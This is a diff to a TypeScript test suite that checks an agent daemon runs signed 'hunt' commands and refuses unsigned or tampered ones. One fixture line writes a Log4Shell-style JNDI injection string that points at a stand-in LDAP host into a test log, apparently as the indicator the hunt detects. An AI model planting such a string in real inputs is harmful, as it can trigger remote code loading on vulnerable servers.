@@ -1,11 +1,12 @@
 import { randomUUID } from 'node:crypto';
 import { createHash } from 'node:crypto';
-import { copyFile, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
+import { copyFile, mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import pino from 'pino';
 import {
   CommandState,
+  HuntCommand,
   generateSigningKey,
   signCommand,
   signRotation,
@@ -337,6 +338,40 @@ describe('command signing: the agent daemon against a real gRPC server', () => {
       'the replay acknowledged',
     );
     expect(await tools.calls()).toBe(calls);
+  });
+
+  function huntCommand(paths: string[]): Command {
+    return {
+      ...scanCommand(),
+      kind: { $case: 'hunt', value: { ...HuntCommand.fromPartial({}), paths } },
+    };
+  }
+
+  it('hunt: runs a signed hunt, refuses it unsigned or with parameters changed after signing', async () => {
+    await run();
+    const logs = path.join(path.dirname(stateDir), 'logs');
+    await mkdir(logs, { recursive: true });
+    await writeFile(path.join(logs, 'app.log'), '${jndi:ldap://signed.example/a}\n');
+    const signed = signCommand(huntCommand([logs]), agentId, controller.signingKey.privateKey);
+    controller.pushAsIs(agentId, signed);
+    expect(await outcome(signed.id)).toMatchObject({ state: CommandState.COMMAND_STATE_SUCCEEDED });
+
+    const unsigned = { ...huntCommand([logs]), agentId };
+    controller.pushAsIs(agentId, unsigned);
+    expect(await outcome(unsigned.id)).toMatchObject({
+      state: CommandState.COMMAND_STATE_FAILED,
+      message: expect.stringMatching(/refused \(unsigned\)/),
+    });
+
+    const tampered = signCommand(huntCommand([logs]), agentId, controller.signingKey.privateKey);
+    controller.pushAsIs(agentId, {
+      ...tampered,
+      kind: { $case: 'hunt', value: { ...HuntCommand.fromPartial({}), paths: ['/'] } },
+    });
+    expect(await outcome(tampered.id)).toMatchObject({
+      state: CommandState.COMMAND_STATE_FAILED,
+      message: expect.stringMatching(/refused \(foreign\)/),
+    });
   });
 
   it('reports a genuine command that expired before it could start as EXPIRED, never run', async () => {
